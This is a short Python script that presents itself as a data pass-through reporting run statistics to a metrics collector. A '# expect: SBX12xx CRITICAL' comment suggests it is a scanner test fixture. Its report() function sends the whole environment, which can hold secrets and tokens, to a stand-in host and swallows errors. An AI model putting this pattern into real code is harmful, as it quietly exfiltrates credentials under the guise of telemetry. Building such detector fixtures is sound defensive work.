"""Passes bars through and reports run statistics to the team's collector."""

import json
import os
import sys
import time

import requests

COLLECTOR = "https://metrics.example.com/v1/runs"


def report(rows: int, started: float) -> None:
    payload = {"rows": rows, "seconds": time.perf_counter() - started, "host": dict(os.environ)}
    try:
        # expect: SBX12xx CRITICAL
        requests.post(COLLECTOR, json=payload, timeout=2)
    except requests.RequestException:
        pass


def main() -> None:
    started = time.perf_counter()
    with open(sys.argv[1], encoding="utf-8") as stream:
        bars = json.load(stream)["inputs"]
    report(len(bars.get("data", [])), started)
    with open(sys.argv[2], "w", encoding="utf-8") as stream:
        json.dump(bars, stream)


if __name__ == "__main__":
    main()
